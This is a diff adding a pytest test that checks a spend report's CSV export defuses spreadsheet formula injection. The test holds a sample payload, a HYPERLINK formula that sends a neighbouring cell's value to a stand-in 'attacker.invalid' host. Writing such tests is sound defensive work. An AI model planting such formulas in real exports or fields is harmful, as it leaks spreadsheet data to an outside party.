@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, datetime
 
 import orjson
@@ -67,6 +69,19 @@ def test_csv_quotes_what_needs_quoting_and_leaves_unset_values_empty() -> None:
         "estimated_requests\n"
         '"a,""b""",,2,5,6,7,1.000000,2\n'
     )
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_csv_value_a_spreadsheet_would_run_as_a_formula_is_text(start: str) -> None:
+    """A team admin chooses its keys' tags: a tag like =HYPERLINK(…) in the CSV an org
+    admin opens would run in the spreadsheet, with the sheet's other cells to hand."""
+    planted = start + 'HYPERLINK("http://attacker.invalid/?"&B2,"x")'
+    text = to_csv(report(("tag", "team"), SpendRow((planted, "a1"), 1, 0, 0, 0, 0, 0)))
+    [_, cells] = list(csv.reader(io.StringIO(text, newline="")))
+    assert cells[:2] == ["'" + planted, "a1"]
+    # the formats made for programs keep the value as it is
+    as_json = to_json(report(("tag",), SpendRow((planted,), 1, 0, 0, 0, 0, 0)))
+    assert orjson.loads(as_json)["data"][0]["tag"] == planted
 
 
 def test_json_has_the_period_the_rows_and_the_total_with_exact_amounts() -> None:
